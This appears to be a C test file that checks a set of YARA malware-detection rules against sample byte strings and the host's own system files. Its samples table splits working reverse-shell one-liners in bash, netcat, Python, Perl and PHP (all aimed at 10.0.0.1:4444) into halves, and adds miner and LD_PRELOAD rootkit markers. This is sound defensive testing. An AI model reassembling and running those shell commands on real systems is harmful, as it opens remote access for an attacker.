/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The rules that come with yara: each finds what it is for, near misses are left alone, and so is this machine.
 *
 *     rules_test DIRECTORY
 */
#include "common/common.h"
#include "yara/compile.h"
#include "yara/inspect.h"

#include <dirent.h>
#include <fcntl.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>

#include <cmocka.h>

#define ELF "\177ELF\2\1\1\0\0\0\0\0\0\0\0\0"
#define SYSTEM_FILES_MAX 600u

static const char *directory;
static struct ruleset *set;
static struct inspect *inspect;

/* In two halves, so that this file is none of them. Bytes may hold NULs: `more` follows `bytes`. */
static const struct sample {
	const char *rule; /* NULL: nothing may match */
	const char *path;
	const char *begin;
	size_t begin_size; /* 0: a string */
	const char *more[4];
} samples[] = {
	{"eicar_test_file", "/x", "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STAND", 0, {"ARD-ANTIVIRUS-TEST-FILE!$H+H*"}},
	{NULL, "/x", " X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STAND", 0, {"ARD-ANTIVIRUS-TEST-FILE!$H+H*"}},
	{"ringside_harmless_test", "/x", "#!/bin/sh\n# RINGSIDE-HARMLESS-", 0, {"TEST-MALWARE\n"}},
	{NULL, "/x", "RINGSIDE-HARMLESS-", 0, {" TEST-MALWARE"}},

	{"reverse_shell_bash", "/x", "#!/bin/bash\nbash -i >& /dev/t", 0, {"cp/10.0.0.1/4444 0>&1\n"}},
	{"reverse_shell_bash", "/x", "#!/bin/bash\nexec 5<>/dev/t", 0, {"cp/10.0.0.1/4444\nsh <&5 >&5 2>&5\n"}},
	{NULL, "/x", "#!/bin/bash\nexec 5<>/dev/t", 0, {"cp/10.0.0.1/80\necho GET / >&5\ncat <&5\n"}},
	{NULL, "/notes.txt", "bash -i >& /dev/t", 0, {"cp/10.0.0.1/4444 0>&1 is what to look for\n"}},
	{"reverse_shell_netcat", "/x", "#!/bin/sh\nnc -e /bin", 0, {"/sh 10.0.0.1 4444\n"}},
	{"reverse_shell_netcat",
	 "/x",
	 "#!/bin/sh\nrm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | ",
	 0,
	 {"nc 10.0.0.1 4444 > /tmp/f\n"}},
	{NULL, "/x", "#!/bin/sh\nnc -z localhost 80 && sh /usr/bin/done\n", 0, {""}},
	{"reverse_shell_interpreter",
	 "/x",
	 "#!/usr/bin/python3\nimport socket,os,pty\ns=socket.socket()\ns.connect((\"10.0.0.1\",4444))\n",
	 0,
	 {"os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\n", "pty.spawn(\"/bin/bash\")\n"}},
	{NULL,
	 "/x",
	 "#!/usr/bin/python3\nimport socket,subprocess\ns=socket.socket()\ns.connect((\"10.0.0.1\",4444))\n",
	 0,
	 {"subprocess.run([\"/bin/sh\", \"-c\", \"true\"])\n"}},
	{"reverse_shell_interpreter",
	 "/x",
	 "#!/usr/bin/perl\nuse Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,\">&S\");",
	 0,
	 {"open(STDOUT,\">&S\");exec(\"/bin/sh -i\");\n"}},
	{"reverse_shell_interpreter",
	 "/x",
	 "<?php $s=fsockopen(\"10.0.0.1\",4444);",
	 0,
	 {"exec(\"sh -i <&3 >&3 2>&3\");"}},
	{NULL, "/x", "<?php $s=fsockopen(\"10.0.0.1\",25); fwrite($s, \"HELO\");", 0, {""}},

	{"miner", "/x", ELF, 16, {"stratum+", "tcp://pool:3333 mining.", "subscribe mining.", "authorize"}},
	{"miner", "/x", ELF, 16, {"stratum+", "ssl://pool:3333 donate-", "level random", "x"}},
	{NULL, "/x", ELF, 16, {"stratum+", "tcp://pool:3333"}},
	{NULL, "/readme", "stratum+", 0, {"tcp://pool:3333 mining.", "subscribe mining.", "authorize"}},

	{"preload_rootkit",
	 "/x",
	 ELF "\3\0",
	 18,
	 {"/etc/ld.so.pre", "load readdir readdir64 dlsym /proc/net/", "tcp fopen64 ", "unlinkat"}},
	{NULL, "/x", ELF "\3\0", 18, {"/etc/ld.so.pre", "load"}},
	{NULL,
	 "/x",
	 ELF "\2\0",
	 18,
	 {"/etc/ld.so.pre", "load readdir readdir64 dlsym /proc/net/", "tcp fopen64 ", "unlinkat"}},

	{"packed_in_temporary_folder", "/tmp/x", ELF, 16, {"UP", "X!"}},
	{"packed_in_temporary_folder", "/dev/shm/a/b", ELF, 16, {"UP", "X!"}},
	{NULL, "/usr/bin/x", ELF, 16, {"UP", "X!"}},
	{NULL, "/tmp/x", "text about UP", 0, {"X!"}},
};

static size_t make(const struct sample *sample, char *bytes, size_t room)
{
	size_t size = sample->begin_size ? sample->begin_size : strlen(sample->begin);
	assert_true(size < room);
	memcpy(bytes, sample->begin, size);
	for (size_t i = 0; i < ARRAY_SIZE(sample->more) && sample->more[i]; i++) {
		size_t part = strlen(sample->more[i]);
		assert_true(size + part < room);
		memcpy(bytes + size, sample->more[i], part);
		size += part;
	}
	return size;
}

static void test_samples(void **state)
{
	struct inspect_result result;
	for (size_t i = 0; i < ARRAY_SIZE(samples); i++) {
		char bytes[1024];
		size_t size = make(&samples[i], bytes, sizeof(bytes));
		inspect_bytes(inspect, bytes, size, samples[i].path, now_ns() + UINT64_C(60000000000), &result);
		if (result.outcome != (samples[i].rule ? INSPECT_MATCH : INSPECT_CLEAN))
			fail_msg("sample %zu (%s): outcome %u, rule \"%s\"", i,
				 samples[i].rule ? samples[i].rule : "harmless", result.outcome, result.rule);
		assert_string_equal(result.rule, samples[i].rule ? samples[i].rule : "");
	}
}

/* No rule without a sample, and none without a description. */
static void test_every_rule(void **state)
{
	const YR_RULE *rule;
	const YR_META *meta;
	yr_rules_foreach(set->rules, rule)
	{
		bool sampled = false, described = false;
		if (RULE_IS_PRIVATE(rule))
			continue;
		for (size_t i = 0; i < ARRAY_SIZE(samples); i++)
			sampled |= samples[i].rule && strcmp(samples[i].rule, rule->identifier) == 0;
		yr_rule_metas_foreach(rule, meta) described |= strcmp(meta->identifier, "description") == 0;
		if (!sampled || !described)
			fail_msg("%s has no %s", rule->identifier, sampled ? "description" : "sample");
	}
	assert_int_equal(set->head.n_warnings, 0);
}

static unsigned look_at_folder(const char *path, unsigned most, unsigned *matches)
{
	char name[512];
	struct inspect_result result;
	const struct dirent *entry;
	unsigned n = 0;
	DIR *folder = opendir(path);
	while (folder && n < most && (entry = readdir(folder))) {
		snprintf(name, sizeof(name), "%s/%s", path, entry->d_name);
		struct stat status;
		if (lstat(name, &status) < 0 || !S_ISREG(status.st_mode) || status.st_size > 4 << 20)
			continue;
		_cleanup_(closep) int fd = open(name, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		inspect_file(inspect,
			     &(struct inspect_job){.path = name, .fd = fd, .stop_ns = now_ns() + UINT64_C(60000000000)},
			     &result);
		n++;
		if (result.outcome == INSPECT_CLEAN)
			continue;
		print_error("%s: outcome %u, %s: %s\n", name, result.outcome, result.rule, result.reason);
		(*matches)++;
	}
	if (folder)
		closedir(folder);
	return n;
}

/* Nothing of this machine is found, and nothing of it costs the cache. */
static void test_this_machine(void **state)
{
	static const char *const folders[] = {
		"/usr/bin", "/usr/sbin",          "/usr/lib/x86_64-linux-gnu", "/usr/share/bash-completion/completions",
		"/etc",     "/usr/lib/python3.11"};
	unsigned n = 0, matches = 0;
	for (size_t i = 0; i < ARRAY_SIZE(folders); i++)
		n += look_at_folder(folders[i], SYSTEM_FILES_MAX / ARRAY_SIZE(folders), &matches);
	print_message("%u files of this machine, %u matches\n", n, matches);
	assert_int_equal(matches, 0);
	assert_true(n > 200);
}

static void report(void *data, const char *line)
{
	print_error("%s\n", line);
}

static int setup(void **state)
{
	static const struct inspect_limits limits = {.size_max_bytes = 32u << 20, .ends_bytes = 4u << 20};
	const struct compile_opts opts = {.strict = true, .report = report};
	char problem[COMPILE_PROBLEM_SIZE] = "";
	_cleanup_(closep) int fd = open(directory, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0 || compile_directory(fd, &opts, &set, problem) < 0 || inspect_new(set, &limits, &inspect) < 0) {
		print_error("%s: %s\n", directory, problem);
		return -1;
	}
	return 0;
}

static int teardown(void **state)
{
	inspect_free(inspect);
	ruleset_free(set);
	return 0;
}

int main(int argc, char **argv)
{
	const struct CMUnitTest tests[] = {cmocka_unit_test(test_samples), cmocka_unit_test(test_every_rule),
					   cmocka_unit_test(test_this_machine)};
	if (argc != 2)
		return 2;
	directory = argv[1];
	yr_initialize();
	int r = cmocka_run_group_tests(tests, setup, teardown);
	yr_finalize();
	return r;
}
